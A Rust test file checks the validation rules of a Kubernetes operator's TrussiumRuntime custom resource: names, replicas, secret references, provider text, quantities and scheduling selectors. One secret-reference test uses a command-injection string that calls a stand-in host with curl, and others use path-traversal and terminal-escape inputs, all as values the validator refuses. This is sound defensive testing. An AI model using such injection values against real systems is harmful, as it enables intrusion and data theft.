//! Table tests of [`problems`]: every rule refuses what it should, with the
//! field and the CRD's message, and lets the valid neighbours through.

use serde_json::{Value, json};

use super::{Problem, REPLICAS_MESSAGE, problems, rules, syntax};
use crate::TrussiumRuntime;

/// A valid runtime named `name`, with `patch` merged into its spec.
fn runtime(name: &str, patch: Value) -> TrussiumRuntime {
    let mut spec = json!({
        "image": {"repository": "ghcr.io/trussiumhq/trussium", "tag": "v1.22.0"},
        "provider": {"type": "openai", "model": "gpt-5"},
    });
    merge(&mut spec, patch);
    let rt = json!({
        "apiVersion": "runtime.trussium.io/v1beta1", "kind": "TrussiumRuntime",
        "metadata": {"name": name, "namespace": "ai"}, "spec": spec,
    });
    serde_json::from_value(rt).unwrap_or_else(|e| panic!("fixture: {e}"))
}

fn merge(into: &mut Value, patch: Value) {
    match (into, patch) {
        (Value::Object(into), Value::Object(patch)) => {
            for (k, v) in patch {
                merge(into.entry(k).or_insert(Value::Null), v);
            }
        }
        (into, patch) => *into = patch,
    }
}

fn found(rt: &TrussiumRuntime) -> Vec<(String, &'static str)> {
    problems(rt)
        .into_iter()
        .map(|Problem { field, message }| (field, message))
        .collect()
}

fn assert_refused(patch: Value, expected: &[(&str, &str)]) {
    let got = found(&runtime("rt", patch.clone()));
    let expected: Vec<(String, &str)> = expected.iter().map(|(f, m)| (f.to_string(), *m)).collect();
    assert_eq!(got, expected, "{patch}");
}

fn assert_valid(patch: Value) {
    assert_eq!(found(&runtime("rt", patch.clone())), [], "{patch}");
}

#[test]
fn names() {
    for ok in ["a", "private-ai", "a1", &"a".repeat(63)] {
        assert_eq!(found(&runtime(ok, json!({}))), [], "{ok}");
    }
    let name = ("metadata.name".to_string(), rules::NAME.message);
    for bad in ["a.b", "1a", "a-", "A", &"a".repeat(64)] {
        assert_eq!(
            found(&runtime(bad, json!({}))),
            std::slice::from_ref(&name),
            "{bad}"
        );
    }
    let default = ("metadata.name".to_string(), rules::NAME_NOT_DEFAULT.message);
    assert_eq!(found(&runtime("default", json!({}))), [default]);
    // The API server's Service: only in namespace default.
    assert_eq!(found(&runtime("kubernetes", json!({}))), []);
    let mut api_server = runtime("kubernetes", json!({}));
    api_server.metadata.namespace = Some("default".into());
    let taken = (
        "metadata.name".to_string(),
        rules::NAME_NOT_KUBERNETES_IN_DEFAULT.message,
    );
    assert_eq!(found(&api_server), [taken]);
}

#[test]
fn replicas() {
    assert_valid(
        json!({"replicas": 1000, "autoscaling": {"minReplicas": 1000, "maxReplicas": 1000}}),
    );
    assert_valid(json!({"replicas": 0}));
    assert_refused(
        json!({"replicas": 2147483647, "autoscaling": {"minReplicas": 1001, "maxReplicas": 5000}}),
        &[
            ("spec.replicas", REPLICAS_MESSAGE),
            ("spec.autoscaling.minReplicas", REPLICAS_MESSAGE),
            ("spec.autoscaling.maxReplicas", REPLICAS_MESSAGE),
        ],
    );
}

#[test]
fn autoscaling() {
    assert_valid(json!({"autoscaling": {"enabled": true, "minReplicas": 2, "maxReplicas": 2}}));
    // Disabled, it needs no maximum.
    assert_valid(json!({"autoscaling": {"enabled": false, "minReplicas": 2}}));
    assert_refused(
        json!({"autoscaling": {"enabled": true, "minReplicas": 2}}),
        &[("spec.autoscaling", rules::AUTOSCALING_MAX_REPLICAS.message)],
    );
    assert_refused(
        json!({"autoscaling": {"enabled": false, "minReplicas": 3, "maxReplicas": 2}}),
        &[(
            "spec.autoscaling",
            rules::AUTOSCALING_MAX_AT_LEAST_MIN.message,
        )],
    );
}

#[test]
fn secret_references() {
    assert_valid(json!({
        "imagePullSecrets": [{"name": "ghcr"}, {"name": "a.b-c"}],
        "provider": {"credentialsSecretRef": {"name": "openai", "key": "api-key.txt_1"}},
    }));
    assert_refused(
        json!({
            "imagePullSecrets": [{"name": "ok"}, {"name": "x; curl http://evil.example/$(id) #"}],
            "provider": {"credentialsSecretRef": {"name": "Openai", "key": "api key"}},
        }),
        &[
            (
                "spec.imagePullSecrets[1].name",
                rules::PULL_SECRET_NAME.message,
            ),
            (
                "spec.provider.credentialsSecretRef.name",
                rules::CREDENTIALS_NAME.message,
            ),
            (
                "spec.provider.credentialsSecretRef.key",
                rules::CREDENTIALS_KEY.message,
            ),
        ],
    );
    for key in [".", "..", "../etc", "a/b", "ключ"] {
        assert_refused(
            json!({"provider": {"credentialsSecretRef": {"name": "s", "key": key}}}),
            &[(
                "spec.provider.credentialsSecretRef.key",
                rules::CREDENTIALS_KEY.message,
            )],
        );
    }
}

#[test]
fn provider_text() {
    assert_valid(
        json!({"provider": {"model": "llama3.2:8b — é", "baseURL": "https://api.example.com/v1?u=a@b"}}),
    );
    for model in [
        "gpt-5\nFAKE: line",
        "a\u{1b}]0;title\u{7}",
        "a\0",
        "a\u{9b}31m",
        "tab\there",
    ] {
        assert_refused(
            json!({"provider": {"model": model}}),
            &[("spec.provider", rules::MODEL_PRINTABLE.message)],
        );
    }
    assert_refused(
        json!({"provider": {"baseURL": "https://api.example.com/\u{1b}[2J"}}),
        &[("spec.provider", rules::BASE_URL_PRINTABLE.message)],
    );
    for url in [
        "https://alice:sk-live-1@api.example.com/v1",
        "http://token@h:8080",
        "https://a@b@h/",
    ] {
        assert_refused(
            json!({"provider": {"baseURL": url}}),
            &[("spec.provider", rules::BASE_URL_NO_USER_INFO.message)],
        );
    }
}

#[test]
fn resources() {
    assert_valid(json!({"resources": {
        "requests": {"cpu": "250m", "memory": "256Mi", "nvidia.com/gpu": 1},
        "limits": {"cpu": "0.25", "memory": "1Gi", "nvidia.com/gpu": "1"},
    }}));
    assert_valid(json!({"resources": {"requests": {"cpu": "2"}}}));
    assert_valid(json!({"resources": {"limits": {"cpu": "0"}}}));
    assert_refused(
        json!({"resources": {"limits": {"cpu": "lots", "memory": "-1Gi"}}}),
        &[
            ("spec.resources.limits[cpu]", rules::QUANTITY_MESSAGE),
            ("spec.resources.limits[memory]", rules::QUANTITY_MESSAGE),
        ],
    );
    assert_refused(
        json!({"resources": {"requests": {"cpu": "1001m", "memory": "1Gi"}, "limits": {"cpu": "1", "memory": "1024Mi"}}}),
        &[("spec.resources", rules::REQUESTS_WITHIN_LIMITS.message)],
    );
    // An unparsable value is reported once, not compared.
    assert_refused(
        json!({"resources": {"requests": {"cpu": "x"}, "limits": {"cpu": "1"}}}),
        &[("spec.resources.requests[cpu]", rules::QUANTITY_MESSAGE)],
    );
}

#[test]
fn the_crd_patterns_and_the_operator_agree_on_repositories_and_urls() {
    let repository = regex::Regex::new(rules::REPOSITORY_PATTERN).unwrap_or_else(|e| panic!("{e}"));
    for value in [
        "ghcr.io/trussiumhq/trussium",
        "trussium",
        "registry.local:5000/team/trussium",
        "localhost:5000/a",
        "a.b_c--d/e",
        "Host.Example/a",
        "a/b/c/d",
        "",
        "UPPER/case",
        "a/UPPER",
        "-a/b",
        "a-/b",
        "a//b",
        "a/",
        "/a",
        "host:/a",
        "host:x/a",
        "a_b:5000/c",
        "a..b",
        "a b",
        "a/b.",
    ] {
        assert_eq!(
            syntax::is_repository(value),
            repository.is_match(value),
            "{value:?}"
        );
    }
    // RE2's \s (the API server's), not Rust's, which also matches \v and
    // Unicode spaces.
    let url = regex::Regex::new(r"^https?://[^\t\n\x0c\r ]+$").unwrap_or_else(|e| panic!("{e}"));
    assert!(
        rules::REPOSITORY_NAME
            .cel
            .contains(rules::REPOSITORY_PATTERN)
    );
    for value in [
        "http://ollama:11434/v1",
        "https://api.openai.com/v1",
        "https://",
        "ftp://x",
        "http://a b",
        "http://a\tb",
        "http://a\u{b}b",
        "HTTP://x",
        "http:/x",
        "",
    ] {
        assert_eq!(syntax::is_http_url(value), url.is_match(value), "{value:?}");
    }
}

#[test]
fn the_repository_and_the_url_get_the_crds_messages() {
    assert_refused(
        json!({"image": {"repository": "ghcr.io/a:v1", "tag": "v1"}}),
        &[("spec.image.repository", rules::REPOSITORY_NO_TAG.message)],
    );
    assert_refused(
        json!({"image": {"repository": "ghcr.io/a@sha256:x", "tag": "v1"}}),
        &[("spec.image.repository", rules::REPOSITORY_NO_DIGEST.message)],
    );
    assert_refused(
        json!({"image": {"repository": "Ghcr.io/UPPER", "tag": "v1"}}),
        &[("spec.image.repository", rules::REPOSITORY_NAME.message)],
    );
    assert_refused(
        json!({"provider": {"type": "ollama", "model": "m", "baseURL": "ollama:11434"}}),
        &[("spec.provider", rules::BASE_URL_SCHEME.message)],
    );
}

#[test]
fn the_crd_pattern_and_the_operator_agree_on_quantities() {
    // The API server checks rules::QUANTITY_PATTERN (strings); the operator
    // checks a stored quantity with `quantity::parse`: one verdict for each.
    let pattern = regex::Regex::new(rules::QUANTITY_PATTERN).unwrap_or_else(|e| panic!("{e}"));
    for (value, valid) in [
        ("0", true),
        ("2", true),
        ("+2", true),
        ("0.5", true),
        (".5", true),
        ("5.", true),
        ("500m", true),
        ("1.5Gi", true),
        ("256Mi", true),
        ("1e3", true),
        ("1E-3", true),
        ("100n", true),
        ("", false),
        ("-1", false),
        ("-0", false),
        ("-1Gi", false),
        ("lots", false),
        ("1GB", false),
        ("1 Gi", false),
        ("1..5", false),
        ("e3", false),
        ("0x10", false),
    ] {
        let spec = json!({"resources": {"limits": {"cpu": value}}});
        let operator = found(&runtime("rt", spec)).is_empty();
        assert_eq!(pattern.is_match(value), valid, "pattern on {value:?}");
        assert_eq!(operator, valid, "operator on {value:?}");
    }
}

#[test]
fn tolerations() {
    assert_valid(json!({"scheduling": {"tolerations": [
        {"key": "workload", "operator": "Equal", "value": "ai", "effect": "NoSchedule"},
        {"key": "example.com/gpu", "value": "true"},
        {"operator": "Exists"},
        {"key": "node.kubernetes.io/unreachable", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 30},
        {"key": "k", "operator": "", "effect": ""},
    ]}}));
    let at = "spec.scheduling.tolerations[0]";
    for (toleration, field, rule) in [
        (
            json!({"key": "k", "operator": "Gt"}),
            at,
            &rules::TOLERATION_OPERATOR,
        ),
        (
            json!({"key": "k", "effect": "NoWay"}),
            at,
            &rules::TOLERATION_EFFECT,
        ),
        (
            json!({"key": "k", "operator": "Exists", "value": "v"}),
            at,
            &rules::TOLERATION_EXISTS_NO_VALUE,
        ),
        (json!({"value": "v"}), at, &rules::TOLERATION_EMPTY_KEY),
        (
            json!({"key": "k", "tolerationSeconds": 5}),
            at,
            &rules::TOLERATION_SECONDS,
        ),
        (
            json!({"key": "bad key"}),
            "spec.scheduling.tolerations[0].key",
            &rules::TOLERATION_KEY,
        ),
        (
            json!({"key": "k", "value": "-v"}),
            "spec.scheduling.tolerations[0].value",
            &rules::TOLERATION_VALUE,
        ),
    ] {
        assert_refused(
            json!({"scheduling": {"tolerations": [toleration]}}),
            &[(field, rule.message)],
        );
    }
}

#[test]
fn node_selector() {
    assert_valid(
        json!({"scheduling": {"nodeSelector": {"kubernetes.io/os": "linux", "empty": ""}}}),
    );
    assert_refused(
        json!({"scheduling": {"nodeSelector": {"bad key": "x"}}}),
        &[("spec.scheduling.nodeSelector", rules::NODE_SELECTOR.message)],
    );
}

fn node_term(expressions: Value) -> Value {
    json!({"scheduling": {"affinity": {"nodeAffinity": {
        "requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [expressions]},
    }}}})
}

#[test]
fn node_affinity() {
    assert_valid(node_term(json!({
        "matchExpressions": [
            {"key": "topology.kubernetes.io/zone", "operator": "In", "values": ["a", "b"]},
            {"key": "gpu", "operator": "Exists"},
            {"key": "cores", "operator": "Gt", "values": ["8"]},
        ],
        "matchFields": [{"key": "metadata.name", "operator": "NotIn", "values": ["node-1"]}],
    })));
    let at = "spec.scheduling.affinity.nodeAffinity.requiredDuringSchedulingIgnoredDuringExecution.nodeSelectorTerms[0]";
    let expression = format!("{at}.matchExpressions[0]");
    for (requirement, expected) in [
        (
            json!({"key": "k", "operator": "Near", "values": ["a"]}),
            vec![(expression.clone(), &rules::NODE_OPERATOR)],
        ),
        (
            json!({"key": "k", "operator": "In"}),
            vec![(expression.clone(), &rules::NODE_VALUES)],
        ),
        (
            json!({"key": "k", "operator": "Exists", "values": ["a"]}),
            vec![(expression.clone(), &rules::NODE_VALUES)],
        ),
        (
            json!({"key": "k", "operator": "Lt", "values": ["ten"]}),
            vec![(expression.clone(), &rules::NODE_VALUES)],
        ),
        (
            json!({"key": "bad/key/", "operator": "Exists"}),
            vec![(format!("{expression}.key"), &rules::NODE_KEY)],
        ),
    ] {
        let expected: Vec<(&str, &str)> = expected
            .iter()
            .map(|(f, r)| (f.as_str(), r.message))
            .collect();
        assert_refused(
            node_term(json!({"matchExpressions": [requirement]})),
            &expected,
        );
    }
    assert_refused(
        node_term(
            json!({"matchFields": [{"key": "spec.nodeName", "operator": "In", "values": ["n"]}]}),
        ),
        &[(&format!("{at}.matchFields[0]"), rules::NODE_FIELD.message)],
    );
    let preferred = |weight: i32| {
        json!({"scheduling": {"affinity": {"nodeAffinity": {"preferredDuringSchedulingIgnoredDuringExecution": [
            {"weight": weight, "preference": {"matchExpressions": [{"key": "k", "operator": "Exists"}]}},
        ]}}}})
    };
    assert_valid(preferred(1));
    assert_valid(preferred(100));
    for weight in [0, 101, -5] {
        assert_refused(
            preferred(weight),
            &[(
                "spec.scheduling.affinity.nodeAffinity.preferredDuringSchedulingIgnoredDuringExecution[0].weight",
                rules::WEIGHT.message,
            )],
        );
    }
}

#[test]
fn pod_affinity_and_label_selectors() {
    let term = |term: Value| {
        json!({"scheduling": {"affinity": {"podAntiAffinity": {"preferredDuringSchedulingIgnoredDuringExecution": [
            {"weight": 50, "podAffinityTerm": term},
        ]}}}})
    };
    assert_valid(term(json!({
        "topologyKey": "kubernetes.io/hostname",
        "namespaces": ["ai", "clients-1"],
        "labelSelector": {"matchLabels": {"app": "x"}, "matchExpressions": [{"key": "tier", "operator": "NotIn", "values": ["a", ""]}]},
        "namespaceSelector": {},
    })));
    let at = "spec.scheduling.affinity.podAntiAffinity.preferredDuringSchedulingIgnoredDuringExecution[0].podAffinityTerm";
    assert_refused(
        term(json!({
            "topologyKey": "",
            "namespaces": ["Bad_NS"],
            "labelSelector": {"matchLabels": {"a": "-"}, "matchExpressions": [
                {"key": "k", "operator": "Matches", "values": ["x"]},
                {"key": "k", "operator": "Exists", "values": ["x"]},
                {"key": "", "operator": "In", "values": ["not valid"]},
            ]},
        })),
        &[
            (&format!("{at}.topologyKey"), rules::TOPOLOGY_KEY.message),
            (
                &format!("{at}.namespaces[0]"),
                rules::AFFINITY_NAMESPACE.message,
            ),
            (
                &format!("{at}.labelSelector.matchLabels"),
                rules::MATCH_LABELS.message,
            ),
            (
                &format!("{at}.labelSelector.matchExpressions[0]"),
                rules::SELECTOR_OPERATOR.message,
            ),
            (
                &format!("{at}.labelSelector.matchExpressions[1]"),
                rules::SELECTOR_VALUES.message,
            ),
            (
                &format!("{at}.labelSelector.matchExpressions[2].key"),
                rules::SELECTOR_KEY.message,
            ),
            (
                &format!("{at}.labelSelector.matchExpressions[2].values[0]"),
                rules::SELECTOR_VALUE.message,
            ),
        ],
    );
    assert_refused(
        json!({"scheduling": {"affinity": {"podAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": [
            {"topologyKey": "zone", "namespaceSelector": {"matchExpressions": [{"key": "k", "operator": "In"}]}},
        ]}}}}),
        &[(
            "spec.scheduling.affinity.podAffinity.requiredDuringSchedulingIgnoredDuringExecution[0].namespaceSelector.matchExpressions[0]",
            rules::SELECTOR_VALUES.message,
        )],
    );
}

#[test]
fn network_policy_selectors() {
    let policy = |selector: Value| {
        json!({"networkPolicy": {"enabled": true, "ingress": [
            {"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "clients"}}},
            {"namespaceSelector": {}, "podSelector": selector},
        ]}})
    };
    assert_valid(policy(
        json!({"matchExpressions": [{"key": "app", "operator": "DoesNotExist"}]}),
    ));
    assert_refused(
        policy(
            json!({"matchExpressions": [{"key": "app", "operator": "Equals", "values": ["x"]}]}),
        ),
        &[(
            "spec.networkPolicy.ingress[1].podSelector.matchExpressions[0]",
            rules::SELECTOR_OPERATOR.message,
        )],
    );
}

#[test]
fn every_message_names_its_field() {
    // The message alone (as `kubectl` shows it after the path) says which
    // field: its first words are the field, or the kind of field.
    for rule in [
        &rules::NAME,
        &rules::NAME_NOT_DEFAULT,
        &rules::NAME_NOT_KUBERNETES_IN_DEFAULT,
        &rules::PULL_SECRET_NAME,
        &rules::CREDENTIALS_NAME,
        &rules::CREDENTIALS_KEY,
        &rules::MODEL_PRINTABLE,
        &rules::BASE_URL_PRINTABLE,
        &rules::BASE_URL_NO_USER_INFO,
        &rules::REQUESTS_WITHIN_LIMITS,
        &rules::TOLERATION_OPERATOR,
        &rules::TOLERATION_EFFECT,
        &rules::TOLERATION_EXISTS_NO_VALUE,
        &rules::TOLERATION_EMPTY_KEY,
        &rules::TOLERATION_SECONDS,
        &rules::TOLERATION_KEY,
        &rules::TOLERATION_VALUE,
        &rules::SELECTOR_OPERATOR,
        &rules::SELECTOR_VALUES,
        &rules::SELECTOR_KEY,
        &rules::SELECTOR_VALUE,
        &rules::MATCH_LABELS,
        &rules::NODE_SELECTOR,
        &rules::NODE_OPERATOR,
        &rules::NODE_VALUES,
        &rules::NODE_KEY,
        &rules::NODE_FIELD,
        &rules::TOPOLOGY_KEY,
        &rules::AFFINITY_NAMESPACE,
        &rules::WEIGHT,
    ] {
        let head = rule.message.split([' ', ':']).next().unwrap_or_default();
        assert!(
            [
                "metadata.name",
                "imagePullSecrets[].name",
                "provider.credentialsSecretRef.name",
                "provider.credentialsSecretRef.key",
                "provider.model",
                "provider.baseURL",
                "resources",
                "resources.requests",
                "scheduling.tolerations[].operator",
                "scheduling.tolerations[].effect",
                "scheduling.tolerations[]",
                "scheduling.tolerations[].key",
                "scheduling.tolerations[].value",
                "label",
                "scheduling.nodeSelector",
                "node",
                "affinity"
            ]
            .contains(&head),
            "{}",
            rule.message
        );
    }
}
